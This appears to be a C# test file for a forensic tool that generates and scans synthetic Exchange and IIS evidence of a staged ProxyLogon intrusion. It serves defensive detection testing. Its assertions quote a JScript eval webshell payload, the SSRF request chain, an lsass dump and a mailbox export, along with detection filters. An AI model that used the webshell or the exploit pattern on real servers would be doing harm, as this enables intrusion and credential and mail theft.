using System.Security.Cryptography;
using System.Text.RegularExpressions;
using Exhunt.Demo;
using Exhunt.Evidence;
using Exhunt.Readers;
using Exhunt.Scanning;
using Exhunt.Tests.Support;

namespace Exhunt.Tests.Demo;

public sealed class DemoEvidenceTests(DemoSet set) : IClassFixture<DemoSet>
{
    private const string Attacker = "104.140.114.110";

    [Fact]
    public void Same_seed_writes_identical_files_and_another_seed_does_not()
    {
        using var a = new Fixture.TempDir();
        using var b = new Fixture.TempDir();
        using var c = new Fixture.TempDir();
        // Days are written in parallel: the output must not depend on that.
        DemoEvidence.Write(a.Path, new DemoOptions { Days = 3, RequestsPerDay = 300, Seed = 99, Parallelism = 3 });
        DemoEvidence.Write(b.Path, new DemoOptions { Days = 3, RequestsPerDay = 300, Seed = 99, Parallelism = 1 });
        DemoEvidence.Write(c.Path, new DemoOptions { Days = 3, RequestsPerDay = 300, Seed = 100 });
        var ha = Hashes(a.Path);
        Assert.True(ha.Count > 50);
        Assert.Equal(ha, Hashes(b.Path));
        var hc = Hashes(c.Path);
        Assert.NotEqual(ha[ha.Keys.First(k => k.Contains("W3SVC1"))], hc[hc.Keys.First(k => k.Contains("W3SVC1"))]);
    }

    [Fact]
    public void Without_benign_traffic_the_intrusion_files_are_still_complete_and_readable()
    {
        using var dir = new Fixture.TempDir();
        var manifest = DemoEvidence.Write(dir.Path, new DemoOptions { Days = 1, RequestsPerDay = 0, Seed = 5 });
        var result = new Scanner(new ScanOptions()).Scan(dir.Path);
        Assert.All(result.Artifacts, a => { Assert.Equal(0, a.Stats.Skipped); Assert.Empty(a.Stats.Errors); });
        var ecpProxy = result.Artifacts.Where(a => a.File.Kind == ArtifactKind.HttpProxy && a.File.Protocol == "Ecp").ToList();
        // With one day everything happens on it: 6 SSRF requests, 3 autodiscover-only probes, the admin's 2 changes.
        Assert.Equal(6 + 3 + 2, ecpProxy.Sum(a => a.Stats.Records));
        Assert.Equal(1 + 3 + 2, result.Artifacts.Single(a => a.File.Kind == ArtifactKind.EcpServer).Stats.Records); // set shell, reset (3 cmdlets), admin
        Assert.Equal(2, result.Artifacts.Single(a => a.File.Kind == ArtifactKind.RpsCmdlet).Stats.Records);
        Assert.True(File.Exists(Path.Combine(dir.Path, manifest.Intrusion.ShellKapePath)));
    }

    private static SortedDictionary<string, string> Hashes(string root) =>
        new(Directory.EnumerateFiles(root, "*", SearchOption.AllDirectories)
            .ToDictionary(f => Path.GetRelativePath(root, f).Replace('\\', '/'), f => Convert.ToHexString(SHA256.HashData(File.ReadAllBytes(f)))), StringComparer.Ordinal);

    [Fact]
    public void Every_log_starts_with_the_exact_header_of_its_kind_and_every_row_has_its_column_count()
    {
        var exchange = new Regex(@"\A#Software: Microsoft Exchange Server\r\n#Version: (15\.01\.2176\.002|15\.0\.0\.0)\r\n#Log-type: (?<type>[^\r\n]+)\r\n#Date: \d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z\r\n#Fields: (?<fields>[^\r\n]+)\r\n");
        var iis = new Regex(@"\A#Software: Microsoft Internet Information Services 10\.0\r\n#Version: 1\.0\r\n#Date: \d{4}-\d\d-\d\d \d\d:\d\d:\d\d\r\n#Fields: (?<fields>[^\r\n]+)\r\n");
        var logs = 0;
        foreach (var path in Directory.EnumerateFiles(set.Folder, "*", SearchOption.AllDirectories).Where(p => p.EndsWith(".log", StringComparison.OrdinalIgnoreCase)))
        {
            logs++;
            var text = File.ReadAllText(path);
            var head = text[..Math.Min(text.Length, 2000)];
            if (path.Contains("W3SVC"))
            {
                var m = iis.Match(head);
                Assert.True(m.Success, path);
                Assert.Equal("date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken", m.Groups["fields"].Value);
                continue;
            }
            var e = exchange.Match(head);
            Assert.True(e.Success, path);
            var (type, fields) = (e.Groups["type"].Value, e.Groups["fields"].Value);
            switch (type)
            {
                case "HttpProxy Logs":
                    Assert.Contains("/Logging/HttpProxy/", path);
                    Assert.Equal(FieldMaps.DefaultColumns(ArtifactKind.HttpProxy), fields.Split(','));
                    break;
                case "ECP Server Log":
                    Assert.Equal("TimeStamp,ServerName,EventId,EventData", fields);
                    break;
                case "Rps Cmdlet Logs":
                    Assert.Equal(FieldMaps.DefaultColumns(ArtifactKind.RpsCmdlet), fields.Split(','));
                    break;
                case "OABGenerator Log":
                    Assert.Contains("/OABGeneratorLog/", path);
                    break;
                default:
                    Assert.Fail($"unexpected log type {type} in {path}");
                    break;
            }
        }
        Assert.True(logs > 100);

        // Every data row has exactly the columns its #Fields block names (CSV quoting and all).
        var rows = 0L;
        foreach (var (file, stats, _) in set.ReadLogs(r =>
                 {
                     var expected = r.Kind == ArtifactKind.Iis ? 15 : r.Kind switch
                     {
                         ArtifactKind.HttpProxy => 74, ArtifactKind.EcpServer => 4, ArtifactKind.RpsCmdlet => 67, _ => 3,
                     };
                     Assert.True(r.ColumnCount == expected, $"{r.File.RelativePath}:{r.Line} has {r.ColumnCount} columns, expected {expected}");
                     Assert.NotNull(r.Time);
                     return false;
                 }))
        {
            Assert.Equal(0, stats.Skipped);
            Assert.Empty(stats.Errors);
            rows += stats.Records;
        }
        Assert.True(rows > 3000, $"{rows} rows");
    }

    [Fact]
    public void Scanner_classifies_every_file_as_its_kind_and_reads_every_line()
    {
        var result = new Scanner(new ScanOptions()).Scan(set.Folder);
        var onDisk = Directory.EnumerateFiles(set.Folder, "*", SearchOption.AllDirectories).Count();
        Assert.Equal(onDisk, result.Artifacts.Count);
        Assert.Equal(set.Manifest.RelativePaths.Count, onDisk);
        Assert.Empty(result.ListingErrors);
        foreach (var a in result.Artifacts)
        {
            var p = a.File.RelativePath;
            var expected = p switch
            {
                _ when p.Contains("/Logging/HttpProxy/") => ArtifactKind.HttpProxy,
                _ when p.Contains("/Logging/ECP/Server/") => ArtifactKind.EcpServer,
                _ when p.Contains("/Logging/OABGeneratorLog/") => ArtifactKind.OabGenerator,
                _ when p.Contains("/CmdletInfra/Powershell-Proxy/Cmdlet/") => ArtifactKind.RpsCmdlet,
                _ when p.Contains("/LogFiles/W3SVC") => ArtifactKind.Iis,
                _ when p.EndsWith(".aspx") || p.EndsWith(".config") => ArtifactKind.WebPage,
                _ when p.EndsWith("lsass.dmp") => ArtifactKind.Minidump,
                _ when p.EndsWith(".zip") => ArtifactKind.Archive,
                _ => ArtifactKind.Unrecognised, // .css, .htm, .png: static content
            };
            Assert.True(expected == a.File.Kind, $"{p}: {a.File.Kind}, expected {expected}");
            Assert.Equal(0, a.Stats.Skipped);
            Assert.Empty(a.Stats.Errors);
            if (expected == ArtifactKind.HttpProxy) Assert.Equal(p.Split('/')[^2], a.File.Protocol);
            if (expected.IsLog()) Assert.True(a.Stats.Records > 0, p);
        }
        Assert.Equal(7, result.Artifacts.Where(a => a.File.Kind == ArtifactKind.HttpProxy).Select(a => a.File.Protocol).Distinct().Count());
        Assert.Equal(2 * 2, result.Artifacts.Count(a => a.File.Kind == ArtifactKind.Iis));
        Assert.Equal(new DateTime(2021, 3, 1, 0, 0, 0, DateTimeKind.Utc), result.Coverage.Min(c => c.First)!.Value.Date);
        Assert.Equal(new DateTime(2021, 3, 2, 0, 0, 0, DateTimeKind.Utc), result.Coverage.Max(c => c.Last)!.Value.Date);
    }

    [Fact]
    public void Benign_traffic_is_varied()
    {
        var users = new HashSet<string>();
        var ips = new HashSet<string>();
        var agents = new HashSet<string>();
        var protocols = new HashSet<string>();
        foreach (var (_, _, kept) in set.ReadLogs(r => r.Kind == ArtifactKind.HttpProxy))
            foreach (var r in kept)
            {
                if (r[Field.User] is { } u) users.Add(u);
                ips.Add(r[Field.ClientIp]!);
                if (r[Field.UserAgent] is { } ua) agents.Add(ua);
                protocols.Add(r[Field.Protocol]!);
            }
        Assert.True(users.Count > 150, $"{users.Count} users");
        Assert.True(ips.Count > 200, $"{ips.Count} client IPs");
        Assert.True(agents.Count > 10, $"{agents.Count} user agents");
        Assert.Equal(["Autodiscover", "Eas", "Ecp", "Ews", "Mapi", "Owa", "PowerShell"], protocols.Order());
        Assert.Contains(agents, a => a.StartsWith("AMProbe/", StringComparison.Ordinal));
        Assert.Contains(agents, a => a.StartsWith("Apple-iPhone", StringComparison.Ordinal));
        Assert.Contains(agents, a => a.StartsWith("ExchangeServicesClient/15.", StringComparison.Ordinal));
        Assert.Contains(users, u => u.StartsWith("HealthMailbox", StringComparison.Ordinal));
    }

    [Fact]
    public void HttpProxy_holds_the_ProxyLogon_ssrf_chain_and_Test_ProxyLogon_filters_find_only_the_attacker()
    {
        var serverInfo = set.ReadLogs(r => r.Kind == ArtifactKind.HttpProxy && r[Field.AnchorMailbox].StartsWith("ServerInfo~", StringComparison.OrdinalIgnoreCase))
            .SelectMany(x => x.Kept.Select(r => (x.File, r))).ToList();
        var attack = serverInfo.Where(x => x.r[Field.ClientIp] == Attacker).Select(x => x.r).OrderBy(r => r.Time).ToList();
        Assert.Equal(6, attack.Count);
        Assert.All(attack, r =>
        {
            Assert.Equal("/ecp/y.js", r[Field.UrlStem]);
            Assert.Equal("X-BEResource-Cookie", r[Field.RoutingHint]);
            Assert.True(string.IsNullOrEmpty(r[Field.User]));
            Assert.Equal("false", r[Field.IsAuthenticated]);
        });
        Assert.All(serverInfo.Where(x => x.r[Field.ClientIp] == Attacker), x => Assert.Equal("Ecp", x.File.Protocol));
        Assert.EndsWith(":444/autodiscover/autodiscover.xml?#", attack[0][Field.AnchorMailbox]);
        Assert.EndsWith(":444/mapi/emsmdb/?#", attack[1][Field.AnchorMailbox]);
        Assert.EndsWith(":444/ecp/proxyLogon.ecp?#", attack[2][Field.AnchorMailbox]);
        Assert.Equal("241", attack[2][Field.Status]);
        Assert.Contains("/GetObject?msExchEcpCanary=", attack[3][Field.AnchorMailbox]);
        Assert.EndsWith("&schema=OABVirtualDirectory#", attack[4][Field.AnchorMailbox]);
        Assert.EndsWith("&schema=ResetOABVirtualDirectory#", attack[5][Field.AnchorMailbox]);

        // Test-ProxyLogon, CVE-2021-26855: ServerInfo~*/* but not */autodiscover* and not localhost*.
        var cve26855 = serverInfo.Select(x => x.r).Where(r => Like(r[Field.AnchorMailbox]!, "ServerInfo~*/*")
            && !Like(r[Field.AnchorMailbox]!, "ServerInfo~*/autodiscover*") && !Like(r[Field.AnchorMailbox]!, "ServerInfo~localhost*/*")).ToList();
        Assert.Equal(5, cve26855.Count);
        Assert.All(cve26855, r => Assert.Equal(Attacker, r[Field.ClientIp]));
        // Test-ProxyLogon, CVE-2021-27065 part (a): ServerInfo~*/*Reset*VirtualDirectory# with status 200.
        var reset = serverInfo.Select(x => x.r).Where(r => Like(r[Field.AnchorMailbox]!, "ServerInfo~*/*Reset*VirtualDirectory#") && r[Field.Status] == "200").ToList();
        Assert.Single(reset);
        // The scanners: autodiscover-only and the nmap localhost check, excluded by those filters.
        Assert.Contains(serverInfo, x => x.r[Field.ClientIp] == "45.77.121.7");
        Assert.Contains(serverInfo, x => x.r[Field.ClientIp] == "161.35.45.41" && x.r[Field.AnchorMailbox] == "ServerInfo~localhost/ecp/default.flt?" && x.r[Field.Status] == "500");
    }

    // PowerShell -like: case-insensitive, '*' any run.
    private static bool Like(string value, string pattern) =>
        Regex.IsMatch(value, "^" + Regex.Escape(pattern).Replace("\\*", ".*") + "$", RegexOptions.IgnoreCase | RegexOptions.Singleline);

    [Fact]
    public void Ecp_server_log_holds_the_27065_ExternalUrl_and_the_admins_https_change_is_no_match()
    {
        // Test-ProxyLogon's tightened 27065 pattern (facts §1.1 check 4b).
        var pattern = new Regex(@"Set-.+VirtualDirectory.+?(?=Url).+<\w+.*>(.*?)<\/\w+>.+?(?=VirtualDirectory)");
        var ecp = set.ReadLogs(r => r.Kind == ArtifactKind.EcpServer && r[Field.EventData].Contains("VirtualDirectory", StringComparison.Ordinal))
            .SelectMany(x => x.Kept).ToList();
        var hits = ecp.Where(r => pattern.IsMatch(r.Raw)).ToList();
        var hit = Assert.Single(hits);
        Assert.Contains("S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"" + set.Manifest.Intrusion.ShellParameter + "\"],\"unsafe\");}</script>'", hit[Field.EventData]!.Replace("''", "'"));
        Assert.Contains("'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language=\"\"JScript\"\"", hit.Raw);
        Assert.Contains(ecp, r => r[Field.EventData]!.Contains("Set-OwaVirtualDirectory.ExternalUrl=''https://mail.contoso.com/owa''", StringComparison.Ordinal));
        Assert.Contains(ecp, r => r[Field.EventData]!.Contains("Set-OabVirtualDirectory.ExternalUrl=''https://mail.contoso.com/OAB''", StringComparison.Ordinal));
        Assert.Contains(ecp, r => r[Field.EventData]!.Contains("Remove-OABVirtualDirectory", StringComparison.Ordinal));
        Assert.Contains(ecp, r => r[Field.EventData]!.Contains("New-OABVirtualDirectory", StringComparison.Ordinal));
    }

    [Fact]
    public void Iis_logs_show_the_ssrf_the_back_end_reset_and_the_shell_posts()
    {
        var iis = set.ReadLogs(r => r.Kind == ArtifactKind.Iis && (r[Field.ClientIp] is Attacker || r[Field.User].EndsWith('$') || r[Field.Status] is "401"))
            .SelectMany(x => x.Kept.Select(r => (x.File, r))).ToList();
        var front = iis.Where(x => x.File.RelativePath.Contains("W3SVC1/")).Select(x => x.r).ToList();
        Assert.Equal(6, front.Count(r => r[Field.UrlStem] == "/ecp/y.js" && r[Field.Method] == "POST"));
        var shellPosts = front.Where(r => r[Field.UrlStem] == "/owa/auth/RedirSuiteServerProxy.aspx" && r[Field.Method] == "POST").ToList();
        Assert.True(shellPosts.Count >= 10);
        Assert.All(shellPosts, r =>
        {
            Assert.Equal("200", r[Field.Status]);
            Assert.StartsWith("Mozilla/5.0 (compatible; Baiduspider/2.0;", r[Field.UserAgent]);
            Assert.Contains("Mozilla/5.0+(compatible;+Baiduspider/2.0;++http://www.baidu.com/search/spider.html)", r.Raw);
        });
        // Sigma web_cve_2021_26858_iis_rce: POST 200 SetObject, schema=Reset...VirtualDirectory, machine account.
        var back = iis.Where(x => x.File.RelativePath.Contains("W3SVC2/")).Select(x => x.r).ToList();
        var resetLine = Assert.Single(back, r => r[Field.UrlStem] == "/ecp/DDI/DDIService.svc/SetObject" && r[Field.UrlQuery]!.Contains("schema=Reset") && r[Field.UrlQuery]!.Contains("VirtualDirectory"));
        Assert.Equal("POST", resetLine[Field.Method]);
        Assert.Equal("200", resetLine[Field.Status]);
        Assert.EndsWith("$", resetLine[Field.User]);
        Assert.Equal("444", resetLine[Field.ServerPort]);
        // ProxyShell probes answered 401.
        Assert.Equal(2, front.Count(r => r[Field.Status] == "401" && r[Field.UrlStem] == "/autodiscover/autodiscover.json" && r[Field.UrlQuery]!.Contains("Email=autodiscover/autodiscover.json%3F@")));
    }

    [Fact]
    public void Benign_near_misses_are_there_for_rules_to_stay_quiet_on()
    {
        var iis = set.ReadLogs(r => r.Kind == ArtifactKind.Iis && (r[Field.UrlStem].StartsWith("/owa/auth/Current/themes/resources/", StringComparison.Ordinal)
            || r[Field.UrlStem].StartsWith("/autodiscover/autodiscover.json", StringComparison.Ordinal))).SelectMany(x => x.Kept).ToList();
        // Browsers GET the logon theme (the HAFNIUM pattern is a POST there).
        Assert.Contains(iis, r => r[Field.Method] == "GET" && r[Field.UrlStem]!.StartsWith("/owa/auth/Current/themes/resources/", StringComparison.Ordinal));
        Assert.DoesNotContain(iis, r => r[Field.Method] == "POST" && r[Field.UrlStem]!.StartsWith("/owa/auth/Current/", StringComparison.Ordinal));
        // Outlook mobile's autodiscover.json, address in the path and a Protocol parameter (ProxyShell has neither).
        Assert.Contains(iis, r => r[Field.UrlStem]!.StartsWith("/autodiscover/autodiscover.json/v1.0/", StringComparison.Ordinal) && r[Field.UrlQuery]!.StartsWith("Protocol=ActiveSync", StringComparison.Ordinal) && r[Field.Status] == "200");
        // The EWS Managed API with a real version; health probes; an OAB temp file in the legitimate folder.
        var proxy = set.ReadLogs(r => r.Kind == ArtifactKind.HttpProxy && r[Field.UserAgent].StartsWith("ExchangeServicesClient/", StringComparison.Ordinal)).SelectMany(x => x.Kept).ToList();
        Assert.NotEmpty(proxy);
        Assert.All(proxy, r => Assert.Equal(r[Field.ClientIp] == Attacker, r[Field.UserAgent] == "ExchangeServicesClient/0.0.0.0"));
        Assert.Contains(proxy, r => r[Field.UserAgent] == "ExchangeServicesClient/15.00.0913.015" && r[Field.AnchorMailbox]!.StartsWith("Smtp~", StringComparison.Ordinal));
        var oab = set.ReadLogs(r => r.Kind == ArtifactKind.OabGenerator && r.Raw.Contains("Download failed and temporary file", StringComparison.Ordinal)).SelectMany(x => x.Kept).ToList();
        Assert.Single(oab);
        Assert.Contains("'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB\\Temp\\", oab[0].Raw);
    }

    [Fact]
    public void Files_show_the_shell_the_dump_the_export_and_the_archive()
    {
        var facts = set.Manifest.Intrusion;
        var shell = File.ReadAllText(Path.Combine(set.Folder, facts.ShellKapePath));
        foreach (var s in new[] { "OfflineAddressBooks", "ExternalUrl                     : http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"", "InternalAuthenticationMethods", "ExtendedProtectionTokenChecking" })
            Assert.Contains(s, shell);
        Assert.Equal(facts.ShellWritten, File.GetLastWriteTimeUtc(Path.Combine(set.Folder, facts.ShellKapePath)));
        Assert.True(facts.ShellWritten > facts.FirstRequest && facts.ShellWritten < facts.FirstRequest.AddMinutes(1));
        Assert.Equal("MDMP"u8.ToArray(), File.ReadAllBytes(Path.Combine(set.Folder, "C/Windows/Temp/lsass.dmp"))[..4]);
        Assert.Equal("PK"u8.ToArray(), File.ReadAllBytes(Path.Combine(set.Folder, "C/ProgramData/it.zip"))[..2]);
        var export = set.ReadLogs(r => r.Kind == ArtifactKind.RpsCmdlet && r[Field.Cmdlet] is "New-MailboxExportRequest").SelectMany(x => x.Kept).ToList();
        var line = Assert.Single(export);
        Assert.Contains("-Mailbox \"" + facts.ExportedMailbox + "\"", line[Field.Parameters]);
        Assert.Contains("-FilePath \"\\\\EXCH01\\c$\\ProgramData\\pst\\", line[Field.Parameters]);
        Assert.Equal("NT AUTHORITY\\SYSTEM", line[Field.User]);
        Assert.Equal(Attacker, facts.AttackerIp);
    }
}
